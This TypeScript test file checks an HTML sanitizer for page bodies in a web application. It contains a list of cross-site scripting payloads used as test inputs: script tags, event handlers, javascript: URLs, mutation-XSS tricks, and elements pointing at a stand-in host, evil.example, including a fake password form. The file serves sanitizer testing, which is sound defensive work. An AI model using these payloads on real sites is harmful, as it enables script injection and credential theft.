import { describe, expect, it } from 'vitest'
import { attachmentsIn, textOf } from './body-parts.ts'
import { cleanBody } from './clean-body.ts'

const image = `/api/v1/images/${'0'.repeat(26)}`
const attachmentOf = (digit: string) => `/api/v1/page-attachments/${digit.repeat(26)}`
const attachment = attachmentOf('1')

describe('[PAGES-20] the body of a page', () => {
  it('[EDITOR-03] [EDITOR-04] keeps what the editor produces', () => {
    const made = [
      '<h2>Terms</h2><h3>Of use</h3><h4>Of this</h4>',
      '<p>Some <strong>bold</strong>, <em>leaning</em>, <u>lined</u>, <s>gone</s> and <code>typed</code><br />words.</p>',
      '<ul><li><p>one</p></li></ul><ol start="3"><li><p>three</p></li></ol><hr />',
      '<blockquote><p>said</p></blockquote>',
      '<pre><code class="language-javascript">if (1 &lt; 2) alert("x")</code></pre>',
      '<div data-info="important"><p>Read</p></div><div data-info="warning"><p>Mind</p></div><div data-info="note"><p>See</p></div>',
      '<p><a href="https://example.org/a?b=c&amp;d">out</a> <a href="/pages/x">in</a> <a href="mailto:a@example.org">mail</a></p>',
      `<p><img alt="A &quot;plan&quot;" src="${image}" width="640" height="480" /></p>`,
      `<a href="${attachment}" data-size="12345">Plan &amp; “words”.pdf</a>`,
      '<p data-align="center">a</p><h2 data-align="end">b</h2><p data-align="justify">c</p>',
      '<table><tbody><tr><th scope="row" rowspan="2"><p>Of one row</p></th><td><p>x</p></td></tr></tbody></table>',
      '<table><tbody><tr><th scope="col" colspan="2"><p>Costs</p></th></tr><tr><td rowspan="100"><p>Rent</p></td><td><p>1250</p></td></tr></tbody></table>',
      '<p>x<sup>2</sup> H<sub>2</sub>O</p><ol start="3"><li><p>one</p><ul><li><p>inner</p></li></ul></li></ol>',
    ].join('')
    expect(cleanBody(made)).toBe(made)
  })

  it('keeps the words of cells apart for the search, and lets no cell be wider than a screen', () => {
    const table = '<table><thead><tr><th>Rent</th><td>1250</td></tr></thead><tr><td>Power</td><td>80</td></tr></table>'
    expect(textOf(cleanBody(table))).toBe('Rent 1250 Power 80')
    const made = '<table style="x"><tr onclick="x()"><td colspan="1000000" rowspan="0" width="9">a</td></tr></table>'
    expect(cleanBody(made)).toBe('<table><tr><td>a</td></tr></table>')
  })

  it('[OWNER-12 part] says what headings of tables are for, and keeps alignment from a closed list only', () => {
    const table = (rows: string) => `<table><tbody>${rows}</tbody></table>`
    const written = table(
      '<tr><th>Plan</th><th>Price</th></tr><tr><th>Basic</th><td>5</td></tr><tr><td>x</td><td>y</td></tr>',
    )
    const kept = table(
      '<tr><th scope="col">Plan</th><th scope="col">Price</th></tr><tr><th scope="row">Basic</th><td>5</td></tr><tr><td>x</td><td>y</td></tr>',
    )
    expect(cleanBody(written)).toBe(kept)
    expect(cleanBody(kept)).toBe(kept)
    expect(cleanBody(table('<tr><th scope="x" onclick="x()">a</th></tr>'))).toBe(
      table('<tr><th scope="col">a</th></tr>'),
    )
    const hostile = [
      '<p data-align="left; position:fixed">a</p>',
      '<p data-align="center end">a</p>',
      '<p data-align="">a</p>',
      '<p style="text-align:center">a</p>',
      '<p align="center">a</p>',
      '<p data-align="&#99;enter&#32;">a</p>',
    ]
    for (const html of hostile) expect(cleanBody(html), html).toBe('<p>a</p>')
    expect(cleanBody('<td data-align="center">a</td><div data-align="end">b</div><li data-align="end">c</li>')).toBe(
      '<td>a</td>b<li>c</li>',
    )
    const started = performance.now()
    cleanBody('<table>'.repeat(3000) + '<tr><th>'.repeat(20_000))
    expect(performance.now() - started).toBeLessThan(3000)
  })

  const hostile: readonly (readonly [string, string])[] = [
    ['a script', '<script>alert(1)</script>'],
    ['a script that never ends', '<script>alert(1)'],
    ['a handler', `<img src="${image}" onerror="alert(1)">`],
    ['a handler without quotes', '<p onclick=alert(1)>x</p>'],
    ['a handler after a slash', `<img/src="${image}"/onerror=alert(1)>`],
    ['an address that runs', '<a href="javascript:alert(1)">x</a>'],
    ['one in capitals with a tab', '<a href="JaVa\tScRiPt:alert(1)">x</a>'],
    ['one with an entity', '<a href="&#106;avascript&colon;alert(1)">x</a>'],
    ['one behind a control sign', '<a href="\u0001javascript:alert(1)">x</a>'],
    ['one of Visual Basic', '<a href="vbscript:msgbox(1)">x</a>'],
    ['a page in an address', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
    ['a picture in an address', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
    ['a drawing', '<svg onload="alert(1)"><script>alert(1)</script><use href="#x"/></svg>'],
    [
      'a drawing with an animated address',
      '<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>',
    ],
    ['a style element', '<style>*{background:url(https://evil.example)}</style>'],
    ['a style attribute', '<p style="position:fixed;background:url(https://evil.example)">x</p>'],
    ['a class of the application', '<div class="overlay"><p class="toast">x</p></div>'],
    ['an id that a script would find', '<p id="site">x</p><a name="root">x</a>'],
    ['a frame', '<iframe src="https://evil.example"></iframe>'],
    ['a page in a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['a form', '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>'],
    ['a base', '<base href="https://evil.example/">'],
    ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ['an object', '<object data="https://evil.example"></object><embed src="https://evil.example">'],
    ['a picture of another site', '<img src="https://evil.example/pixel.gif" alt="x">'],
    ['a picture of any other address of ours', '<img src="/api/v1/accounts/sign-out" alt="x">'],
    ['an address without a scheme', '<a href="//evil.example">x</a>'],
    ['a comment for old browsers', '<!--[if IE]><script>alert(1)</script><![endif]-->'],
    ['what noscript hides', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
    ['what a template hides', '<template><script>alert(1)</script></template>'],
    [
      'what MathML turns round',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    ],
    [
      'what a form in a table turns round',
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    ],
    ['a text area that ends in an attribute', '<textarea><p title="</textarea><img src=x onerror=alert(1)>">'],
    ['a broken tag', '<<script>script>alert(1)</</script>script>'],
    ['a tag in an attribute', '<a href="https://example.org/" title="\'><script>alert(1)</script>">x</a>'],
    ['CDATA', '<![CDATA[<script>alert(1)</script>]]>'],
    ['a title', '<title><script>alert(1)</script></title>'],
  ]

  it.each(hostile)('[PAGES-02] removes %s', (_what, html) => {
    const clean = cleanBody(`<p>before</p>${html}<p>after</p>`)
    // The rest is parsed as a browser would: tags and their attributes, with text between.
    const tags = [...clean.matchAll(/<\/?([a-z0-9]+)((?:\s+[a-z-]+="[^"<>]*")*)\s*\/?>/g)]
    const words = clean.replace(/<\/?([a-z0-9]+)((?:\s+[a-z-]+="[^"<>]*")*)\s*\/?>/g, '')
    expect(words).not.toMatch(/[<>]/)
    for (const [tag, name = '', attributes = ''] of tags) {
      expect(['p', 'a', 'img', 'div', 'br'], tag).toContain(name)
      for (const [, attribute = '', value = ''] of attributes.matchAll(/([a-z-]+)="([^"]*)"/g)) {
        expect(['href', 'title', 'alt', 'src'], tag).toContain(attribute)
        if (attribute === 'href') expect(value, tag).toMatch(/^https:\/\/example\.org\/$/)
        if (attribute === 'src') expect(value, tag).toBe(image)
      }
    }
    expect(clean.startsWith('<p>before</p>')).toBe(true)
  })

  it('does not change when it is cleaned twice', () => {
    for (const [what, html] of hostile) {
      const once = cleanBody(html)
      expect(cleanBody(once), what).toBe(once)
    }
  })

  it('has a maximum depth, and keeps its text', () => {
    const deep = `${'<blockquote>'.repeat(5000)}words${'</blockquote>'.repeat(5000)}`
    const clean = cleanBody(deep)
    expect(clean.match(/<blockquote>/g)).toHaveLength(60)
    expect(clean).toContain('words')
    expect(cleanBody(clean)).toBe(clean)
  })

  it('is cleaned in time proportional to its length', () => {
    const started = performance.now()
    cleanBody('<'.repeat(100_000))
    cleanBody('<a href="'.repeat(20_000))
    cleanBody('<p>'.repeat(50_000))
    expect(performance.now() - started).toBeLessThan(5000)
  })

  it('[PAGES-21] shows the site’s images by the same address, whichever name of the site was written', () => {
    const clean = cleanBody(`<img src="https://drive.example${image}"><img src="${image}"><img src="/x">`)
    expect(clean).toBe(`<img alt="" src="${image}" />`.repeat(2))
  })

  it('keeps an attachment as what it is: its address, its size, its name', () => {
    const clean = (attributes: string) => cleanBody(`<a ${attributes}>a.pdf</a>`)
    const kept = `<a href="${attachment}" data-size="12">a.pdf</a>`
    expect(clean(`data-size="12" onclick="x()" target="_blank" class="b" title="t" href="${attachment}"`)).toBe(kept)
    // Words that lead to a file are an ordinary link.
    expect(clean(`href="${attachment}" title="t"`)).toBe(`<a href="${attachment}" title="t">a.pdf</a>`)
    for (const size of ['', '-1', '1e9', '12 MB', '"><script>', '9'.repeat(16)]) {
      expect(clean(`href="${attachment}" data-size='${size}'`)).toBe(`<a href="${attachment}">a.pdf</a>`)
    }
    for (const address of ['https://other.example' + attachment, `${attachment}/../x`, `${attachment}?a`, '/drive']) {
      expect(clean(`href="${address}" data-size="12"`)).toBe(`<a href="${address}">a.pdf</a>`)
    }
    expect(clean('data-size="12"')).toBe('a.pdf')
  })

  it('lists the files that it attaches or links to, with their names', () => {
    const other = attachmentOf('2')
    const html = `<a href="${attachment}" data-size="1">a <b>b</b>.pdf</a><p>See <a href="${other}">this</a> or <a href="${attachment}">that</a>, <a href="https://x.example${attachmentOf('3')}">not this</a></p>`
    expect([...attachmentsIn(cleanBody(html))]).toEqual([
      ['1'.repeat(26), 'a b.pdf'],
      ['2'.repeat(26), 'this'],
    ])
    const two = `<p>x</p><a href="${attachment}" data-size="1">a.pdf</a><a href="${other}" data-size="1">b.pdf</a>`
    expect(textOf(cleanBody(two))).toBe('x a.pdf b.pdf')
  })

  it('has plain text for the list', () => {
    expect(textOf(cleanBody('<h2>A &lt;b&gt;</h2><p>one<br>two&nbsp;&amp; <b>th</b>ree</p><ul><li>x</li></ul>'))).toBe(
      'A <b> one two & three x',
    )
  })
})
